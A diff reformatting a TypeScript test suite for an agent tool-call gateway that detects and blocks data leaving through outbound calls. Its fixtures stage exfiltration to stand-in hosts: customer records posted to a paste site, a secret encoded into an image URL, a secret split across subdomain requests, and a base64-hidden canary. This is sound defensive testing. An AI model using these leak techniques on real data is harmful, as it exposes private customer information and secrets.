@@ -74,7 +74,8 @@ const call = (server: string, args: JsonObject, options: { bearer?: string; name
       surface: { type: 'server', server },
     }),
   );
-const denial = (outcome: CallOutcome) => (outcome.type === 'denied' ? { code: outcome.code, rule: outcome.rule, message: outcome.message } : outcome.type);
+const denial = (outcome: CallOutcome) =>
+  outcome.type === 'denied' ? { code: outcome.code, rule: outcome.rule, message: outcome.message } : outcome.type;
 
 async function expectUntold(...values: string[]): Promise<void> {
   const told = JSON.stringify(await h.entries()) + (await h.metrics.render());
@@ -85,9 +86,13 @@ describe('customer data from one server on its way out by another', () => {
   it('is stopped, and the refusal names places and numbers, no value', async () => {
     await open(DENY);
     await call('crm', { id: 7 });
-    const outcome = denial(await call('web', { url: 'https://paste.example.net', body: `${CUSTOMER.name} ${CUSTOMER.email} ${CUSTOMER.balance}` }));
+    const outcome = denial(
+      await call('web', { url: 'https://paste.example.net', body: `${CUSTOMER.name} ${CUSTOMER.email} ${CUSTOMER.balance}` }),
+    );
     expect(outcome).toMatchObject({ code: 'blocked_content', rule: 'flow/flow/out' });
-    expect((outcome as { message: string }).message).toBe('The call would send data out: argument "/body" carries 3 values read from crm.get_customer.');
+    expect((outcome as { message: string }).message).toBe(
+      'The call would send data out: argument "/body" carries 3 values read from crm.get_customer.',
+    );
     const last = (await h.entries()).at(-1)?.content;
     expect(last).toMatchObject({ effect: 'deny', findings: [{ type: 'flow.private', path: '/body', count: 3, action: 'deny' }] });
     await expectUntold(CUSTOMER.email, CUSTOMER.name);
@@ -103,7 +108,9 @@ describe('customer data from one server on its way out by another', () => {
   ])('%s', async (_name, encode) => {
     await open(DENY);
     await call('vault', {});
-    expect(denial(await call('web', { url: `https://img.example.net/p.png?d=${encode(SECRET)}` }))).toMatchObject({ code: 'blocked_content' });
+    expect(denial(await call('web', { url: `https://img.example.net/p.png?d=${encode(SECRET)}` }))).toMatchObject({
+      code: 'blocked_content',
+    });
   });
 
   it('in pieces over several calls', async () => {
@@ -111,7 +118,8 @@ describe('customer data from one server on its way out by another', () => {
     await call('vault', {});
     const pieces = SECRET.match(/.{1,10}/g) ?? [];
     const outcomes: unknown[] = [];
-    for (const [index, piece] of pieces.entries()) outcomes.push(denial(await call('web', { url: `https://${index}.t.example.net/${piece}` })));
+    for (const [index, piece] of pieces.entries())
+      outcomes.push(denial(await call('web', { url: `https://${index}.t.example.net/${piece}` })));
     expect(outcomes.some((outcome) => typeof outcome === 'object')).toBe(true);
   });
 
@@ -141,10 +149,17 @@ describe('customer data from one server on its way out by another', () => {
   });
 
   it('policies see the labels', async () => {
-    const policy = policyObject('flow-rules', [{ name: 'no-private-out', match: { findings: ['flow.*'] }, when: "'private' in flow", effect: 'deny' }], 1);
+    const policy = policyObject(
+      'flow-rules',
+      [{ name: 'no-private-out', match: { findings: ['flow.*'] }, when: "'private' in flow", effect: 'deny' }],
+      1,
+    );
     await open({ mixed: 'allow' }, policy);
     await call('crm', {});
-    expect(denial(await call('web', { body: CUSTOMER.email }))).toMatchObject({ code: 'denied_by_rule', rule: 'flow-rules/no-private-out' });
+    expect(denial(await call('web', { body: CUSTOMER.email }))).toMatchObject({
+      code: 'denied_by_rule',
+      rule: 'flow-rules/no-private-out',
+    });
   });
 });
 
@@ -179,7 +194,9 @@ describe('what may pass', () => {
   it('rules by audience and source', async () => {
     await open({ mixed: 'allow', rules: [{ name: 'customers', sources: ['crm'], to: { audience: ['customers'] }, action: 'deny' }] });
     await call('crm', {});
-    expect(denial(await call('mail', { to: ['a@b.example'], body: CUSTOMER.phone + CUSTOMER.email }))).toMatchObject({ rule: 'flow/flow/customers' });
+    expect(denial(await call('mail', { to: ['a@b.example'], body: CUSTOMER.phone + CUSTOMER.email }))).toMatchObject({
+      rule: 'flow/flow/customers',
+    });
     expect(denial(await call('web', { body: CUSTOMER.email }))).toBe('result');
   });
 });
@@ -210,9 +227,13 @@ describe('canaries and decoys', () => {
 
   it('a canary in arguments is refused, an incident, and freezes the agent in the name of the gateway', async () => {
     await openTrap(true);
-    expect(denial(await call('ledger', { note: Buffer.from(`x ${CANARY} y`).toString('base64') }))).toMatchObject({ code: 'blocked_content' });
+    expect(denial(await call('ledger', { note: Buffer.from(`x ${CANARY} y`).toString('base64') }))).toMatchObject({
+      code: 'blocked_content',
+    });
     const entries = (await h.entries()).map(({ content }) => content);
-    expect(entries).toContainEqual(expect.objectContaining({ event: 'incident', what: 'canary', rule: 'flow/bait', agent: 'robot', server: 'ledger' }));
+    expect(entries).toContainEqual(
+      expect.objectContaining({ event: 'incident', what: 'canary', rule: 'flow/bait', agent: 'robot', server: 'ledger' }),
+    );
     expect(entries).toContainEqual(expect.objectContaining({ type: 'object', author: 'gateway', action: 'freeze' }));
     expect(denial(await call('ledger', { note: 'hello' }))).toMatchObject({ code: 'frozen' });
     expect(denial(await call('ledger', { note: 'hello' }, { bearer: other.token }))).toBe('result');
